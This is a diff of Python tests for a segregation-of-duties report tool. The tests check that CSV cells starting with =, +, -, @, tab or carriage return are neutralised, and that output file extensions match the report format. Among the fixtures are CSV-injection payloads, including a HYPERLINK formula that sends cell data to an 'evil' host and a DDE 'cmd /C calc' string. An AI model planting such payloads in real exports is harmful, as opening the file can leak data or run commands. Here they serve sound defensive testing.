@@ -280,7 +280,7 @@ def test_csv_report(sod_db: sa.Engine, tmp_path: Path) -> None:
         and admin["side2"] == "P04571 via role AP_SUPER; R04570 via open default (no record)"
     )
     assert by_user["MDOE"]["side1"] == "P0411 via own user record" and by_user["MDOE"]["mitigated"] == "yes"
-    assert by_user["MDOE"]["user_name"] == '=HYPERLINK("http://x")'  # raw data, unchanged
+    assert by_user["MDOE"]["user_name"] == "'=HYPERLINK(\"http://x\")"  # neutralised: never a formula
 
 
 def test_html_report_is_escaped_and_self_contained(sod_db: sa.Engine, tmp_path: Path) -> None:
@@ -367,3 +367,106 @@ def test_overwrite_is_refused_unless_forced(
     assert "does not exist; create it first" in capsys.readouterr().err
     assert main(["report", "sod", "--apps-id", "42", "--output", str(tmp_path / "r.html")]) == 2
     assert "application 42 is not registered" in capsys.readouterr().err
+
+
+# --------------------------------------------------------------------------------------------------
+# report safety: formulas in CSV, file name vs format
+# --------------------------------------------------------------------------------------------------
+
+HOSTILE = {"U1": '=HYPERLINK("http://evil/?x="&A1,"click")', "U2": "+1", "U3": "-cmd|' /C calc'!A0", "U4": "@x"}
+
+
+def _seed_hostile(engine: sa.Engine) -> None:
+    """One conflict per user, mitigated by an exception whose id a spreadsheet would run."""
+    base = {"p": "P2P", "a1": "P2P01", "a2": "P2P02", "o1": "P04012", "o2": "P0411", "r": "P2PR01", "lvl": "High"}
+    base |= {"r1": "VENDOR_MGR", "r2": "AP_CLERK", "g1": "ROLE", "g2": "ROLE", "priv": False, "at": NOW, "run": RUN}
+    rows = [
+        {**base, "u": user, "exc": exc, "mit": True, "score": -5 if user == "U2" else 100}
+        for user, exc in HOSTILE.items()
+    ]
+    with engine.begin() as conn:
+        conn.execute(sa.text(DETAIL), rows)
+        conn.execute(
+            sa.text(
+                "INSERT INTO nomasx1.security_users (apps_id, user_id, user_name, enabled, privileged) VALUES "
+                "(10, 'U1', '=1+1', true, false), (10, 'U2', '\tTAB', true, false), (10, 'U3', '\rCR', true, false)"
+            )
+        )
+    Registry(engine, "nomasx1").update(10, apps_name='PROD;=1+1, "@SUM(A1)",-2')
+
+
+def test_csv_report_neutralises_formulas(sod_db: sa.Engine, tmp_path: Path) -> None:
+    _seed_hostile(sod_db)
+    path = report_sod.write_report(sod_db, 10, "csv", tmp_path / "r.csv", now=NOW).path
+    scope, _ = _parse_csv(path)
+    with path.open(encoding="utf-8", newline="") as handle:  # untranslated: a \r in a cell stays one
+        rows = list(csv.DictReader(line for line in handle if not line.startswith("# ")))
+    by_user = {r["user_id"]: r for r in rows}
+    assert {u: by_user[u]["exception_ids"] for u in HOSTILE} == {u: "'" + exc for u, exc in HOSTILE.items()}
+    assert [by_user[u]["user_name"] for u in ("U1", "U2", "U3")] == ["'=1+1", "'\tTAB", "'\rCR"]
+    # numbers stay numbers (unquoted, no apostrophe): a negative score is still -5
+    assert (by_user["U2"]["risk_score"], by_user["U1"]["risk_score"], by_user["U1"]["paths"]) == ("-5", "100", "1")
+    body = [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("#")]
+    u2 = next(line for line in body if line.startswith('"U2",'))
+    assert '"High",-5,"P04012' in u2 and ',1,"yes",' in u2  # score and paths unquoted
+    for row in rows:
+        for key, value in row.items():
+            if key not in ("risk_score", "paths"):
+                assert not value.startswith(report_sod.FORMULA_START), (key, value)
+    # a separator in a scope value cannot start a formula cell either
+    assert scope["application_name"] == "PROD;'=1+1, \"'@SUM(A1)\",'-2"
+
+
+def test_csv_cell_rules() -> None:
+    from decimal import Decimal
+
+    assert [report_sod.csv_cell(v) for v in (-5, 2.5, Decimal("-1.5"), 0)] == [-5, 2.5, Decimal("-1.5"), 0]
+    assert [report_sod.csv_cell(v) for v in ("=A1", "+1", "-1", "@x", "\tx", "\rx")] == [
+        "'=A1",
+        "'+1",
+        "'-1",
+        "'@x",
+        "'\tx",
+        "'\rx",
+    ]
+    assert [report_sod.csv_cell(v) for v in ("a=b", " =x", None, True, "")] == ["a=b", " =x", "", "yes", ""]
+
+
+@pytest.mark.parametrize(
+    ("fmt", "name", "hint"),
+    [
+        ("html", "x.csv", "name the file x.html, or give --format csv"),
+        ("csv", "x.xlsx", "name the file x.csv, or give --format xlsx"),
+        ("xlsx", "x.html", "name the file x.xlsx, or give --format html"),
+        ("csv", "report", "name the file report.csv; nothing was written"),
+    ],
+)
+def test_extension_must_match_the_format(sod_db: sa.Engine, tmp_path: Path, fmt: str, name: str, hint: str) -> None:
+    _seed_conflicts(sod_db)
+    with pytest.raises(ConfigurationError, match=f"does not end with .* but the report format is {fmt}: {hint}"):
+        report_sod.write_report(sod_db, 10, fmt, tmp_path / name, now=NOW, force=True)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_extension_mismatch_is_refused_by_the_cli(
+    sod_db: sa.Engine, pg_url: URL, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _seed_conflicts(sod_db)
+    url = ["--url", pg_url.render_as_string(hide_password=False)]
+    target = tmp_path / "x.csv"
+    assert main(["report", "sod", "--apps-id", "10", "--format", "html", "--output", str(target), *url]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "does not end with .html but the report format is html" in err
+    assert list(tmp_path.iterdir()) == []
+    target.write_text("keep me")  # --force replaces a file, never with another format
+    assert main(["report", "sod", "--apps-id", "10", "--format", "html", "--output", str(target), "--force", *url]) == 2
+    assert target.read_text() == "keep me" and "give --format csv" in capsys.readouterr().err
+    for name in ("X.HTML", "x.htm"):  # the case of the extension does not matter; .htm is HTML too
+        assert main(["report", "sod", "--apps-id", "10", "--output", str(tmp_path / name), *url]) == 0
+        assert (tmp_path / name).read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
+
+
+def test_unwritable_folder_is_a_clear_error(sod_db: sa.Engine) -> None:
+    _seed_conflicts(sod_db)
+    with pytest.raises(ConfigurationError, match=r"cannot write /proc/r.html: the folder /proc refuses new files"):
+        report_sod.write_report(sod_db, 10, "html", "/proc/r.html", now=NOW)
